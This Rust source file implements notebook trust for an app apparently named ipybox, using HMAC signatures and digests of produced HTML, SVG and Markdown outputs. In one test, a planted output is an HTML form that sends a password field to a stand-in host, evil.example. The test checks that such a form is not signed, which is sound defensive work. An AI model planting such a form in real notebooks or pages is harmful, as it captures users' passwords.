//! Notebook trust, as JupyterLab has it: the HTML and SVG outputs of a notebook this
//! computer did not produce are shown as inert text until the person trusts it. A notebook
//! the app saved with only outputs it produced (or the person trusted) is signed: an
//! HMAC-SHA256 of its text under a key kept in ipybox's data directory. The signatures live
//! there too, never in the file, so a notebook cannot vouch for itself and kernel code
//! (which can write the workspace, not the data directory when sandboxed) cannot forge one.
//!
//! The window's word that a notebook holds only such outputs signs nothing by itself: the
//! app signs a saved notebook only when every HTML, SVG and Markdown output in it is one a
//! kernel of this app produced, or one it read in a notebook that was trusted ([`Vouched`]).
//! A page that went wrong cannot launder an output through a save.

use std::collections::{HashSet, VecDeque};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::{LazyLock, Mutex};

use hmac::{Hmac, Mac};
use sha2::Sha256;

use crate::error::{Error, Result};
use crate::executor::Output;

/// Signatures kept; older ones are dropped when the file holds twice as many.
const KEPT: usize = 5000;

/// The signatures of trusted notebooks, in `<data dir>/trust/`.
#[derive(Debug, Clone)]
pub struct TrustStore {
    dir: PathBuf,
    kept: usize,
}

impl TrustStore {
    /// The store in ipybox's data directory `home`.
    pub fn at(home: &Path) -> TrustStore {
        TrustStore {
            dir: home.join("trust"),
            kept: KEPT,
        }
    }

    fn key(&self) -> Result<Vec<u8>> {
        let path = self.dir.join("key");
        match std::fs::read(&path) {
            Ok(key) if !key.is_empty() => Ok(key),
            Ok(_) | Err(_) => {
                crate::fsutil::create_private_dir(&self.dir)?;
                let key = crate::auth::new_token().into_bytes();
                crate::fsutil::write_private(&path, &key)?;
                Ok(key)
            }
        }
    }

    fn signature(&self, text: &str) -> Result<String> {
        let mut mac = Hmac::<Sha256>::new_from_slice(&self.key()?)
            .map_err(|e| Error::config(format!("the notebook trust key: {e}")))?;
        mac.update(text.as_bytes());
        Ok(mac
            .finalize()
            .into_bytes()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect())
    }

    fn signatures_path(&self) -> PathBuf {
        self.dir.join("signatures")
    }

    /// Whether a notebook with exactly `text` was saved here or trusted by the person.
    pub fn is_trusted(&self, text: &str) -> Result<bool> {
        let Ok(kept) = std::fs::read_to_string(self.signatures_path()) else {
            return Ok(false);
        };
        let signature = self.signature(text)?;
        Ok(kept.lines().any(|l| l == signature))
    }

    /// Sign `text`: a notebook with it is trusted from now on.
    pub fn trust(&self, text: &str) -> Result<()> {
        use std::os::unix::fs::OpenOptionsExt;
        let signature = self.signature(text)?;
        let path = self.signatures_path();
        let kept = std::fs::read_to_string(&path).unwrap_or_default();
        if kept.lines().any(|l| l == signature) {
            return Ok(());
        }
        let lines = kept.lines().count();
        if lines >= 2 * self.kept {
            let mut newest: Vec<&str> = kept.lines().skip(lines - self.kept + 1).collect();
            newest.push(&signature);
            let mut text = newest.join("\n");
            text.push('\n');
            return crate::fsutil::write_private(&path, text.as_bytes());
        }
        std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .mode(0o600)
            .custom_flags(libc::O_NOFOLLOW)
            .open(&path)
            .and_then(|mut f| f.write_all(format!("{signature}\n").as_bytes()))
            .map_err(|e| Error::io(format!("writing {}", path.display()), e))
    }

    /// Sign a notebook the window saved as `text`, which the window says holds only outputs
    /// produced here or trusted: signed only if `vouched` knows every HTML, SVG and Markdown
    /// output in it. Whether it was signed.
    pub fn sign_saved(&self, text: &str, window_trusted: bool, vouched: &Vouched) -> Result<bool> {
        if !window_trusted || !vouched.covers(text) {
            return Ok(false);
        }
        self.trust(text)?;
        Ok(true)
    }
}

/// The MIME types a notebook that is not trusted shows as text (the window's `TRUST_MIMES`).
const MARKUP: [&str; 3] = ["text/html", "image/svg+xml", "text/markdown"];

/// Markup outputs remembered; the oldest are forgotten past it (a notebook with one of them
/// is then saved unsigned and asks to be trusted again: the safe side).
const REMEMBERED: usize = 100_000;

type Digest = [u8; 32];

/// The markup outputs this app may vouch for: those its kernels produced since it started,
/// and those of notebooks read while trusted. Kept as SHA-256 digests, in memory only.
#[derive(Debug)]
pub struct Vouched {
    seen: Mutex<Seen>,
    limit: usize,
}

#[derive(Debug, Default)]
struct Seen {
    digests: HashSet<Digest>,
    order: VecDeque<Digest>,
}

/// The app's one [`Vouched`].
pub fn vouched() -> &'static Vouched {
    static VOUCHED: LazyLock<Vouched> = LazyLock::new(|| Vouched::new(REMEMBERED));
    &VOUCHED
}

impl Vouched {
    fn new(limit: usize) -> Vouched {
        Vouched {
            seen: Mutex::new(Seen::default()),
            limit,
        }
    }

    fn remember(&self, digests: impl IntoIterator<Item = Digest>) {
        let mut seen = self.seen.lock().unwrap_or_else(|e| e.into_inner());
        for digest in digests {
            if seen.digests.insert(digest) {
                seen.order.push_back(digest);
            }
        }
        while seen.order.len() > self.limit {
            if let Some(old) = seen.order.pop_front() {
                seen.digests.remove(&old);
            }
        }
    }

    /// Outputs a kernel of this app produced (as the window receives them).
    pub fn produced(&self, outputs: &[Output]) {
        self.remember(outputs.iter().flat_map(|output| match output {
            Output::DisplayData { data, .. }
            | Output::ExecuteResult { data, .. }
            | Output::UpdateDisplayData { data, .. } => bundle_markup(data.iter()),
            _ => Vec::new(),
        }));
    }

    /// A notebook read as `text` is trusted: its markup outputs may be saved signed again.
    pub fn read_trusted(&self, text: &str) {
        self.remember(notebook_markup(text).unwrap_or_default());
    }

    /// Whether every markup output of the notebook `text` is vouched for (false for a text
    /// that is not a notebook).
    pub fn covers(&self, text: &str) -> bool {
        let Some(markup) = notebook_markup(text) else {
            return false;
        };
        let seen = self.seen.lock().unwrap_or_else(|e| e.into_inner());
        markup.iter().all(|d| seen.digests.contains(d))
    }
}

/// A markup value's text: a string, or nbformat's list of lines.
fn markup_text(value: &serde_json::Value) -> Option<String> {
    match value {
        serde_json::Value::String(s) => Some(s.clone()),
        serde_json::Value::Array(lines) => lines
            .iter()
            .map(|l| l.as_str())
            .collect::<Option<Vec<&str>>>()
            .map(|l| l.concat()),
        _ => None,
    }
}

fn digest(text: &str) -> Digest {
    use sha2::Digest as _;
    Sha256::digest(text.as_bytes()).into()
}

/// The digests of a bundle's markup values; a value that is not text gets a digest nothing
/// produces (so it is never vouched for).
fn bundle_markup<'a>(
    bundle: impl Iterator<Item = (&'a String, &'a serde_json::Value)>,
) -> Vec<Digest> {
    bundle
        .filter(|(mime, _)| MARKUP.contains(&mime.as_str()))
        .map(|(_, value)| match markup_text(value) {
            Some(text) => digest(&text),
            None => [0xff; 32],
        })
        .collect()
}

/// The digests of the markup outputs in a notebook's text, as the window renders them
/// (`display_data` and `execute_result` outputs of any cell); None if it is not a notebook.
fn notebook_markup(text: &str) -> Option<Vec<Digest>> {
    let notebook: serde_json::Value = serde_json::from_str(text).ok()?;
    let mut markup = Vec::new();
    for cell in notebook.get("cells")?.as_array()? {
        let Some(outputs) = cell.get("outputs").and_then(|o| o.as_array()) else {
            continue;
        };
        for output in outputs {
            let kind = output.get("output_type").and_then(|k| k.as_str());
            if !matches!(kind, Some("display_data" | "execute_result")) {
                continue;
            }
            if let Some(data) = output.get("data").and_then(|d| d.as_object()) {
                markup.extend(bundle_markup(data.iter()));
            }
        }
    }
    Some(markup)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_notebook_is_trusted_only_as_signed() {
        let home = tempfile::tempdir().expect("tempdir");
        let store = TrustStore::at(home.path());
        let text = r#"{"cells": [], "nbformat": 4}"#;
        assert!(
            !store.is_trusted(text).expect("checked"),
            "nothing is trusted at first"
        );
        store.trust(text).expect("signed");
        assert!(store.is_trusted(text).expect("checked"));
        assert!(
            !store.is_trusted(&text.replace("4", "5")).expect("checked"),
            "a changed notebook is not"
        );
        // Another key (another computer, a new data directory): nothing carries over.
        let other = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(other.path().join("trust")).expect("dir");
        std::fs::copy(
            home.path().join("trust/signatures"),
            other.path().join("trust/signatures"),
        )
        .expect("copied");
        assert!(
            !TrustStore::at(other.path())
                .is_trusted(text)
                .expect("checked")
        );
        use std::os::unix::fs::PermissionsExt;
        for file in ["key", "signatures"] {
            let mode = std::fs::metadata(home.path().join("trust").join(file))
                .expect("kept")
                .permissions()
                .mode();
            assert_eq!(mode & 0o077, 0, "{file} is private");
        }
    }

    #[test]
    fn old_signatures_are_dropped_past_the_limit() {
        let home = tempfile::tempdir().expect("tempdir");
        let store = TrustStore {
            kept: 50,
            ..TrustStore::at(home.path())
        };
        for i in 0..2 * store.kept + 1 {
            store.trust(&i.to_string()).expect("signed");
        }
        let lines = std::fs::read_to_string(home.path().join("trust/signatures"))
            .expect("kept")
            .lines()
            .count();
        assert!(lines <= store.kept + 1, "{lines}");
        assert!(
            store
                .is_trusted(&(2 * store.kept).to_string())
                .expect("checked")
        );
        assert!(!store.is_trusted("0").expect("checked"));
    }

    fn notebook(outputs: &str) -> String {
        format!(
            r#"{{"cells": [{{"cell_type": "code", "source": "x", "metadata": {{}}, "outputs": {outputs}}}], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}}"#
        )
    }

    fn html(value: &str) -> Output {
        Output::DisplayData {
            data: [("text/html".to_owned(), serde_json::json!(value))].into(),
            metadata: serde_json::json!({}),
            display_id: None,
        }
    }

    #[test]
    fn the_windows_word_alone_signs_nothing() {
        // A page that went wrong saves a notebook with an output no kernel produced and says
        // it is trusted: it must open untrusted next time.
        let home = tempfile::tempdir().expect("tempdir");
        let store = TrustStore::at(home.path());
        let vouched = Vouched::new(10);
        let planted = notebook(
            r#"[{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<form action=\"https://evil.example\">", "<input name=pw></form>"]}}]"#,
        );
        assert!(!store.sign_saved(&planted, true, &vouched).expect("saved"));
        assert!(!store.is_trusted(&planted).expect("checked"));

        // The same HTML produced by a kernel here (one string; the file splits it in lines).
        vouched.produced(&[html(
            "<form action=\"https://evil.example\"><input name=pw></form>",
        )]);
        assert!(store.sign_saved(&planted, true, &vouched).expect("saved"));
        assert!(store.is_trusted(&planted).expect("checked"));
        // The window says some output is still held back as text: not signed.
        let other = planted.replace("pw", "pw2");
        vouched.produced(&[html(
            "<form action=\"https://evil.example\"><input name=pw2></form>",
        )]);
        assert!(!store.sign_saved(&other, false, &vouched).expect("saved"));
    }

    #[test]
    fn outputs_of_a_trusted_notebook_are_vouched_for() {
        let vouched = Vouched::new(10);
        let svg = r#"[{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"image/svg+xml": "<svg/>", "text/plain": "x"}}]"#;
        let md = r##"[{"output_type": "display_data", "metadata": {}, "data": {"text/markdown": "# hi"}}]"##;
        assert!(!vouched.covers(&notebook(svg)));
        vouched.read_trusted(&notebook(svg));
        assert!(vouched.covers(&notebook(svg)));
        assert!(!vouched.covers(&notebook(md)), "markdown is markup too");
        // Text-only and image outputs need no vouching; neither does a stream of HTML text.
        assert!(vouched.covers(&notebook(
            r#"[{"output_type": "stream", "name": "stdout", "text": "<b>x</b>"}, {"output_type": "display_data", "metadata": {}, "data": {"image/png": "iVBO", "text/plain": "<Figure>"}}]"#
        )));
        // A markup value that is not text is never vouched for; nor is a text not a notebook.
        assert!(!vouched.covers(&notebook(
            r#"[{"output_type": "display_data", "metadata": {}, "data": {"text/html": {"a": 1}}}]"#
        )));
        assert!(!vouched.covers("{not json"));
    }

    #[test]
    fn the_oldest_outputs_are_forgotten_past_the_limit() {
        let vouched = Vouched::new(3);
        for i in 0..5 {
            vouched.produced(&[html(&format!("<p>{i}</p>"))]);
        }
        let one = |i: u32| {
            notebook(&format!(
                r#"[{{"output_type": "display_data", "metadata": {{}}, "data": {{"text/html": "<p>{i}</p>"}}}}]"#
            ))
        };
        assert!(!vouched.covers(&one(0)) && !vouched.covers(&one(1)));
        assert!((2..5).all(|i| vouched.covers(&one(i))));
    }
}
